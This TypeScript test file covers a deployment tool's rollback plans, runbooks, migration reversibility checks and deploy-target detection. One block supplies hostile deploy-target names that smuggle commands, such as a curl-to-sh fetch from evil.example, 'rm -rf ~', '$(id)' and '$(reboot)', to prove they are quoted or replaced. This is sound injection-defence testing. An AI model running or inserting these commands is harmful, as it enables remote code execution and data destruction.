import * as assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import * as path from 'node:path';
import { defaultConfig, type Config } from '../../../src/core/config';
import { Workspace } from '../../../src/core/engine';
import type { DeployTargetFact, MigrationFact } from '../../../src/core/model';
import { planFactsOf, type PlanFacts } from '../../../src/core/plan/facts';
import { renderRollbackPlan } from '../../../src/core/plan/rollback';
import { recommendStrategy, renderRunbook } from '../../../src/core/plan/runbook';
import { fenced, shQuote, validName } from '../../../src/core/plan/shell';
import { checklistDefaults } from '../../../src/core/checklist/settings';
import { REPO_ROOT, scratchDirs } from '../helpers';

/** Analyses a folder without git (Restricted Mode: no base, every migration is reviewed). */
async function analyse(dir: string, over: (c: Config) => void = () => undefined) {
  const config = defaultConfig();
  over(config);
  const ws = await Workspace.open({ root: dir, config, trusted: false });
  const report = await ws.analyze();
  return { report, facts: planFactsOf(report), config };
}

function facts(over: Partial<PlanFacts> = {}): PlanFacts {
  return { migrations: [], envVars: [], apiBreaking: [], flags: [], flagsCompared: true, sourceChanged: true, deploy: { targets: [] }, smoke: [], health: [], commits: [], branch: 'feature/x', ...over };
}

const rollback = (f: PlanFacts, s = checklistDefaults.rollback) => renderRollbackPlan(f, s);

/** Every shell line of the fenced `sh` blocks. */
function shLines(md: string): string[] {
  const out: string[] = [];
  let fence: string | undefined;
  for (const raw of md.split('\n')) {
    const l = raw.trim();
    if (!fence) {
      const m = /^(`{3,})sh\b/.exec(l);
      if (m) fence = m[1];
    } else if (l === fence) fence = undefined;
    else out.push(l);
  }
  assert.equal(fence, undefined, 'every sh block is closed');
  return out;
}

describe('generated shell is safe to run', () => {
  it('quotes for POSIX sh and validates names against each tool', () => {
    assert.equal(shQuote('web'), 'web');
    assert.equal(shQuote("it's"), `'it'\\''s'`);
    assert.equal(shQuote('$(id)'), `'$(id)'`);
    assert.ok(validName('k8s-label', 'shop'));
    assert.ok(!validName('k8s-label', 'default; rm -rf /'));
    assert.ok(!validName('helm-release', 'web; curl evil | sh #'));
    assert.ok(!validName('compose-service', 'web\n```'));
    assert.ok(validName('k8s-subdomain', 'api.v2'));
    assert.deepEqual(fenced('sh', ['echo ```` x']), ['`````sh', 'echo ```` x', '`````']);
  });

  const hostile: DeployTargetFact[] = [
    { system: 'helm', name: 'web; curl https://evil.example/x | sh #', namespace: '$(id)', file: '.github/workflows/deploy.yml', source: 'ci' },
    { system: 'kubernetes', kind: 'deployment', name: 'api`\n```\nrm -rf ~', namespace: 'shop', file: 'k8s/a.yaml', source: 'production-overlay' },
    { system: 'compose', name: 'docker-compose.prod.yml', file: 'docker-compose.prod.yml', services: ['app', 'x$(reboot)'], source: 'production-overlay' },
    { system: 'heroku', name: "shop' && curl x '", file: '.github/workflows/deploy.yml', source: 'ci' },
  ];

  it('hostile names become marked placeholders with a note; nothing they contain runs', () => {
    const md = rollback(facts({ deploy: { targets: hostile } }));
    const lines = shLines(md);
    for (const l of lines) {
      assert.doesNotMatch(l, /curl|rm -rf|\$\(id\)|reboot|;/, `no injected command: ${l}`);
    }
    assert.ok(lines.includes('helm rollback <release> -n <namespace> --wait'), lines.join('\n'));
    assert.ok(lines.includes('kubectl rollout undo deployment/<name> -n shop'));
    assert.ok(lines.includes('docker compose -f docker-compose.prod.yml up -d --no-deps app <service>'));
    assert.ok(lines.includes('heroku rollback -a <app>'));
    assert.match(md, /is not a valid Helm release name; replaced by <release>/);
    assert.match(md, /The deploy command has a placeholder/);
    // The newline + ``` in the Kubernetes name did not close a fence: the note shows it escaped.
    assert.match(md, /``api`\\x0a```\\x0arm -rf ~``/);
  });

  it('a configured rollback command is fenced with a longer fence than any backtick run in it', () => {
    const md = rollback(facts(), { ...checklistDefaults.rollback, command: 'echo ```\nkubectl rollout undo deployment/web -n shop' });
    assert.match(md, /````sh \{"name":"rollback-code"\}\n {3}echo ```\n {3}kubectl rollout undo deployment\/web -n shop\n {3}````/);
    assert.deepEqual(shLines(md), ['echo ```', 'kubectl rollout undo deployment/web -n shop']);
  });

  it('smoke and health lines in the runbook are quoted', () => {
    const md = renderRunbook({ facts: facts({ health: [{ path: '/x$(id)', file: 'openapi.yaml' }] }), settings: checklistDefaults, items: [], verdict: 'ready', now: new Date(0) });
    assert.match(md, /curl -fsS "\$BASE_URL"'\/x\$\(id\)'/);
  });
});

describe('reversibility comes from the migration analysis', () => {
  const dirs = scratchDirs();
  const by = (ms: MigrationFact[], f: string) => ms.find((m) => m.file === f);

  it('Rails: additive with a proper down, and a reversible change, are reversible by their down step; no line repeats', async function () {
    this.timeout(60_000);
    const removes = Array.from({ length: 13 }, (_, i) => `    remove_column :users, :c${i}`).join('\n');
    const adds = Array.from({ length: 13 }, (_, i) => `    add_column :users, :c${i}, :string`).join('\n');
    const dir = dirs.tree({
      'db/migrate/20260101000000_add_cols.rb': `class AddCols < ActiveRecord::Migration[7.1]\n  def up\n${adds}\n  end\n\n  def down\n${removes}\n  end\nend\n`,
      'db/migrate/20260102000000_add_flag.rb': 'class AddFlag < ActiveRecord::Migration[7.1]\n  def change\n    add_column :users, :flag, :boolean\n  end\nend\n',
      'db/migrate/20260103000000_drop_note.rb': 'class DropNote < ActiveRecord::Migration[7.1]\n  def change\n    remove_column :users, :note, :text\n  end\nend\n',
    });
    const { facts: f } = await analyse(dir);
    assert.equal(by(f.migrations, 'db/migrate/20260101000000_add_cols.rb')?.reversibility, 'down');
    assert.deepEqual(by(f.migrations, 'db/migrate/20260101000000_add_cols.rb')?.destructive, [], 'the down section is not what the migration destroys');
    assert.equal(by(f.migrations, 'db/migrate/20260102000000_add_flag.rb')?.reversibility, 'down');
    assert.equal(by(f.migrations, 'db/migrate/20260103000000_drop_note.rb')?.reversibility, 'irreversible');
    const md = rollback(f);
    assert.match(md, /20260101000000_add_cols\.rb` \(rails\): reversible by its down method: `bin\/rails db:migrate:down VERSION=20260101000000`/);
    assert.match(md, /20260103000000_drop_note\.rb` \(rails\): \*\*irreversible\*\* \(DROP COLUMN users\.note\)/);
    const lines = md.split('\n').filter((l) => l.trim());
    assert.equal(new Set(lines).size, lines.length, 'no repeated lines');
    assert.doesNotMatch(md, /remove_column/);
  });

  it('Django: AlterField widening is reversible; RunSQL DROP with a no-op reverse is irreversible', async function () {
    this.timeout(60_000);
    const dir = dirs.tree({
      'product/migrations/__init__.py': '',
      'product/migrations/0001_initial.py':
        'from django.db import migrations, models\n\nclass Migration(migrations.Migration):\n    initial = True\n    dependencies = []\n    operations = [\n        migrations.CreateModel(name="Item", fields=[("id", models.AutoField(primary_key=True)), ("title", models.CharField(max_length=100))]),\n    ]\n',
      'product/migrations/0002_widen.py':
        'from django.db import migrations, models\n\nclass Migration(migrations.Migration):\n    dependencies = [("product", "0001_initial")]\n    operations = [\n        migrations.AlterField(model_name="item", name="title", field=models.CharField(max_length=255)),\n    ]\n',
      'product/migrations/0003_drop_legacy.py':
        'from django.db import migrations\n\nclass Migration(migrations.Migration):\n    dependencies = [("product", "0002_widen")]\n    operations = [\n        migrations.RunSQL("DROP TABLE legacy_prices;", reverse_sql=migrations.RunSQL.noop),\n    ]\n',
    });
    const { facts: f } = await analyse(dir);
    assert.equal(by(f.migrations, 'product/migrations/0002_widen.py')?.reversibility, 'down');
    assert.equal(by(f.migrations, 'product/migrations/0003_drop_legacy.py')?.reversibility, 'irreversible');
    const md = rollback(f);
    assert.match(md, /0002_widen\.py` \(django\): reversible by the framework .*: `python manage\.py migrate product 0001`/);
    assert.match(md, /0003_drop_legacy\.py` \(django\): \*\*irreversible\*\* \(DROP TABLE legacy_prices\)/);
    assert.doesNotMatch(md, /migrate product 0002/, 'no "reversed by the framework" for the drop');
  });

  it('raw SQL: by its down file or section; a DROP without down is irreversible; additive without down stays', async function () {
    this.timeout(60_000);
    const dir = dirs.tree({
      'db/migrations/001_a.up.sql': 'ALTER TABLE orders ADD COLUMN status text;\n',
      'db/migrations/001_a.down.sql': 'ALTER TABLE orders DROP COLUMN status;\n',
      'db/migrations/002_b.up.sql': 'DROP TABLE old_orders;\n',
      'db/migrations/003_c.sql': '-- +goose Up\nCREATE INDEX i ON orders (status);\n-- +goose Down\nDROP INDEX i;\n',
      'db/migrations/004_d.sql': 'CREATE TABLE audit (id bigint);\n',
    });
    const { facts: f, report } = await analyse(dir);
    assert.deepEqual(
      f.migrations.map((m) => [m.file, m.reversibility, m.down?.kind ?? null]),
      [
        ['db/migrations/001_a.up.sql', 'down', 'file'],
        ['db/migrations/002_b.up.sql', 'irreversible', null],
        ['db/migrations/003_c.sql', 'down', 'section'],
        ['db/migrations/004_d.sql', 'no-down', null],
      ],
    );
    assert.equal(report.facts.migrations.find((m) => m.file === 'db/migrations/002_b.up.sql')?.reversible, false, 'the tree label comes from the same fact');
    assert.ok(!f.migrations.some((m) => m.file.endsWith('.down.sql')), 'a down file is not a migration to reverse');
  });
});

describe('production deploy targets', () => {
  const dirs = scratchDirs();
  const WF = (run: string, env = 'production') => `on: { push: { branches: [main] } }\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    environment: ${env}\n    steps:\n      - uses: actions/checkout@v4\n      - run: ${run}\n`;
  const dep = (name: string, image = `shop/${name}:1`, ns?: string) => `apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: ${name}\n${ns ? `  namespace: ${ns}\n` : ''}spec:\n  template:\n    spec:\n      containers:\n        - name: c\n          image: ${image}\n`;

  it('dev containers, dev/example compose files and a Heroku-button app.json are never rolled back', async function () {
    this.timeout(60_000);
    const dir = dirs.tree({
      '.devcontainer/docker-compose.yml': 'services:\n  app: { build: . }\n  db: { image: postgres:16 }\n',
      'docker-compose.dev.yml': 'services:\n  web: { build: . }\n',
      'compose.example.yml': 'services:\n  web: { build: . }\n',
      'docker/testing/compose.yml': 'services:\n  web: { build: . }\n',
      'app.json': '{ "name": "Shop", "repository": "https://github.com/acme/shop" }',
      'src/a.ts': 'export {};\n',
    });
    const { facts: f } = await analyse(dir);
    assert.deepEqual(f.deploy.targets, []);
    const md = rollback(f);
    assert.match(md, /TODO: which production deployment does this change roll back\?/);
    assert.doesNotMatch(md, /heroku rollback|docker compose -f/);
    assert.doesNotMatch(md, /docker\/testing/, 'a testing compose file is not even a candidate');
  });

  it('a compose file in a production folder is the production target', async function () {
    this.timeout(60_000);
    const dir = dirs.tree({ 'docker/production/compose.yml': 'services:\n  app:\n    image: ghcr.io/acme/app:1\n  database:\n    image: postgres:15\n' });
    const { facts: f } = await analyse(dir);
    assert.deepEqual(f.deploy.targets.map((t) => [t.system, t.file, t.services, t.stateful]), [['compose', 'docker/production/compose.yml', ['app'], ['database']]]);
  });

  it('the CI deploy job names the kustomize overlay: one block per workload, its namespace, stateful workloads never restarted', async function () {
    this.timeout(60_000);
    const dir = dirs.tree({
      '.github/workflows/deploy.yml': WF('kubectl apply -k k8s/overlays/production --context prod-cluster'),
      '.github/workflows/staging.yml': WF('kubectl apply -k k8s/overlays/staging', 'staging'),
      'k8s/base/kustomization.yaml': 'resources:\n  - web.yaml\n  - api.yaml\n  - redis.yaml\n',
      'k8s/base/web.yaml': dep('web'),
      'k8s/base/api.yaml': dep('api'),
      'k8s/base/redis.yaml': dep('redis', 'redis:7-alpine'),
      'k8s/overlays/production/kustomization.yaml': 'namespace: shop-prod\nresources:\n  - ../../base\n',
      'k8s/overlays/staging/kustomization.yaml': 'namespace: shop-staging\nresources:\n  - ../../base\n',
      'release/all.yaml': `${dep('web')}---\n${dep('api')}`,
    });
    const { facts: f } = await analyse(dir);
    assert.deepEqual(
      f.deploy.targets.map((t) => [t.kind, t.name, t.namespace, t.context, !!t.stateful]),
      [
        ['deployment', 'api', 'shop-prod', 'prod-cluster', false],
        ['deployment', 'redis', 'shop-prod', 'prod-cluster', true],
        ['deployment', 'web', 'shop-prod', 'prod-cluster', false],
      ],
    );
    const lines = shLines(rollback(f));
    assert.deepEqual(lines.filter((l) => l.startsWith('kubectl rollout undo')), [
      'kubectl rollout undo deployment/api -n shop-prod --context prod-cluster',
      'kubectl rollout undo deployment/web -n shop-prod --context prod-cluster',
    ]);
    assert.ok(!lines.some((l) => /-n default|shop-staging|redis/.test(l)));
  });

  it('never guesses a namespace; helm from the CI job with its namespace; compose leaves stateful services running', async function () {
    this.timeout(60_000);
    const dir = dirs.tree({
      '.github/workflows/deploy.yml': WF('helm upgrade --install shop ./chart -n shop --wait && kubectl set image deployment/worker worker=x && docker compose -f deploy/compose.prod.yml up -d'),
      'chart/Chart.yaml': 'apiVersion: v2\nname: shop\nversion: 1.0.0\n',
      'deploy/compose.prod.yml': 'services:\n  app:\n    image: ghcr.io/acme/shop:1\n  db:\n    image: postgres:16\n  cache:\n    image: redis:7\n  mail:\n    image: axllent/mailpit\n',
    });
    const { facts: f } = await analyse(dir);
    const md = rollback(f);
    const lines = shLines(md);
    assert.ok(lines.includes('helm rollback shop -n shop --wait'), lines.join('\n'));
    assert.ok(lines.includes('kubectl rollout undo deployment/worker'), 'no -n when the job does not say');
    assert.match(md, /does not state the namespace/);
    assert.ok(lines.includes('docker compose -f deploy/compose.prod.yml up -d --no-deps app'));
    assert.match(md, /stateful services are left running .*`db`, `cache`, `mail`/);
    assert.ok(!lines.some((l) => /-n default/.test(l)));
  });

  it('Heroku: rolled back only with deploy evidence, with the app the CI job names', async function () {
    this.timeout(60_000);
    const dir = dirs.tree({
      'Procfile': 'web: bundle exec puma\n',
      'app.json': '{ "name": "button-name" }',
      '.github/workflows/deploy.yml': WF('git push https://git.heroku.com/shop-prod.git HEAD:main'),
    });
    const { facts: f } = await analyse(dir);
    assert.deepEqual(f.deploy.targets.map((t) => [t.system, t.name]), [['heroku', 'shop-prod']]);
    assert.ok(shLines(rollback(f)).includes('heroku rollback -a shop-prod'));
  });
});

describe('times, title and strategy', () => {
  it('times: "not estimated" without figures; configured figures per step; the target applies to the code path', () => {
    const mig: PlanFacts['migrations'][number] = { file: 'db/1.sql', tool: 'sql', dialect: 'postgres', isNew: true, reversibility: 'irreversible', destructive: ['DROP TABLE a'], locks: [] };
    const f = facts({ migrations: [mig, { ...mig, file: 'db/2.sql' }] });
    let md = rollback(f);
    assert.match(md, /Time to roll back the code: not estimated/);
    assert.doesNotMatch(md, /\| \d+ \|/, 'no invented figures');
    md = rollback(f, { ...checklistDefaults.rollback, minutes: { flags: 0, code: 2, verify: 2, migration: 1, restore: 40 } });
    assert.match(md, /\*\*Time to roll back the code: about 4 min\*\* \(within the 5-minute target\); about 44 min if the database must be reversed too/);
    assert.match(md, /\| Reverse the migrations or restore from backup \(only if needed\) \| 40 \|/, 'one restore covers both');
  });

  it('a migration with no way back but no data loss is not called destructive', () => {
    const md = rollback(facts({ migrations: [{ file: 'db/1.sql', tool: 'prisma', dialect: 'postgres', isNew: true, reversibility: 'irreversible', destructive: [], why: 'no down step for a change to existing data or shape', locks: [] }] }));
    assert.doesNotMatch(md, /destroys data/);
    assert.match(md, /has no way back with its tool/);
    assert.match(md, /`db\/1\.sql` \(prisma\): \*\*irreversible\*\* \(no down step for a change to existing data or shape\): the tool cannot undo it/);
  });

  it('strategy: a destructive migration means backup first and a later contract step, not blue/green', () => {
    const mig: PlanFacts['migrations'][number] = { file: 'db/1.sql', tool: 'sql', dialect: 'postgres', isNew: true, reversibility: 'irreversible', destructive: ['DROP COLUMN a.b'], locks: [] };
    const s = recommendStrategy(facts({ migrations: [mig], deploy: { targets: [{ system: 'kubernetes', kind: 'deployment', name: 'web', file: 'x', source: 'ci' }] } }));
    assert.equal(s.strategy, 'rolling');
    assert.match(s.database!, /backup .* later deploy/);
    assert.equal(recommendStrategy(facts({ deploy: { targets: [], blueGreen: true } })).strategy, 'blue/green');
    assert.equal(recommendStrategy(facts({ deploy: { targets: [], progressive: 'flagger' } })).strategy, 'canary');
  });

  it('a long history is summarised by area with the commits that touch migrations, config or API', () => {
    const commits = Array.from({ length: 120 }, (_, i) => ({ hash: `${i}`.padStart(40, 'a'), subject: `commit ${i}`, body: '', author: 'a', date: '' }));
    commits[0].body = 'Signed-off-by: Ana <ana@example.com>';
    commits[1].body = 'Exports take minutes on large families.\n\nSigned-off-by: Ana <ana@example.com>';
    const md = renderRunbook({
      facts: facts({ commits, history: { total: 120, byArea: [{ area: 'code', commits: 100 }, { area: 'migrations', commits: 2 }], notable: [{ hash: commits[3].hash, subject: 'Add orders.status', areas: ['migrations'] }] } }),
      settings: checklistDefaults,
      items: [],
      verdict: 'ready',
      now: new Date(0),
    });
    assert.match(md, /# Deployment runbook: feature\/x \(commit 0\)/, 'the newest commit, not the oldest');
    assert.match(md, /120 commits since the base, by the area of the files they touch: code 100, migrations 2\./);
    assert.match(md, /- Add orders\.status \(`aaaaaaa`\) — migrations/);
    assert.doesNotMatch(md, /commit 119/);
    assert.match(md, /## Why\n\nExports take minutes on large families\.\n/, 'trailers are not a reason');
  });
});

describe('Helm charts', () => {
  const dirs = scratchDirs();
  it('templates are not parsed as YAML: no YAML-error notices, no Node warning; values are still read', async function () {
    this.timeout(60_000);
    const tpl = (n: number) => `apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: {{ include "shop.fullname" . }}-${n}\nspec:\n  template:\n    spec:\n      containers:\n        - name: web\n          env:\n            {{- range $k, $v := .Values.env }}\n            - name: {{ $k }}\n            {{- end }}\n`;
    const dir = dirs.tree({
      'chart/Chart.yaml': 'apiVersion: v2\nname: shop\nversion: 1.0.0\n',
      'chart/values.yaml': 'env:\n  - name: DATABASE_URL\n',
      ...Object.fromEntries(Array.from({ length: 5 }, (_, i) => [`chart/templates/d${i}.yaml`, tpl(i)])),
      'k8s/bad1.yaml': 'apiVersion: v1\nkind: Deployment\nmetadata: {a: [\n',
      'k8s/bad2.yaml': 'apiVersion: v1\nkind: Deployment\nmetadata: {b: [\n',
      'docker-compose.prod.yml': 'services:\n  app: { build: . }\n{{ .Values.x }}: 1\n',
    });
    const warnings: string[] = [];
    const onWarn = (w: Error) => warnings.push(w.message);
    process.on('warning', onWarn);
    try {
      const { report } = await analyse(dir);
      await new Promise((r) => setImmediate(r));
      assert.ok(!report.notices.some((n) => n.file?.startsWith('chart/templates/')), JSON.stringify(report.notices));
      const yamlErrors = report.notices.filter((n) => /YAML error/.test(n.message));
      assert.ok(yamlErrors.length <= 1, `at most one notice per kind: ${JSON.stringify(yamlErrors)}`);
      if (yamlErrors.length) assert.match(yamlErrors[0].message, /more like it/);
    } finally {
      process.off('warning', onWarn);
    }
    assert.deepEqual(warnings.filter((w) => /Keys with collection values/.test(w)), []);
  });
});

describe('plan/ imports no parser', () => {
  it('no module reachable from src/core/plan imports a parser (type-only imports aside)', () => {
    const PARSERS = /^(libpg-query|node-sql-parser|@vscode\/tree-sitter-wasm|web-tree-sitter|yaml|smol-toml|jsonc-parser|graphql|protobufjs|@apidevtools\/.*)$/;
    const root = path.join(REPO_ROOT, 'src', 'core');
    const seen = new Set<string>();
    const bad: string[] = [];
    const visit = (file: string) => {
      if (seen.has(file)) return;
      seen.add(file);
      const text = readFileSync(file, 'utf8');
      for (const m of text.matchAll(/^import\s+(type\s+)?[^'"]*?from\s+'([^']+)'|^import\s+'([^']+)'|require\('([^']+)'\)/gm)) {
        if (m[1]) continue;
        const spec = m[2] ?? m[3] ?? m[4];
        if (spec.startsWith('.')) {
          const p = path.resolve(path.dirname(file), spec);
          visit(p.endsWith('.ts') ? p : `${p}.ts`);
        } else if (PARSERS.test(spec)) bad.push(`${path.relative(root, file)} imports ${spec}`);
      }
    };
    for (const f of readdirSync(path.join(root, 'plan'))) if (f.endsWith('.ts')) visit(path.join(root, 'plan', f));
    assert.deepEqual(bad, []);
  });
});
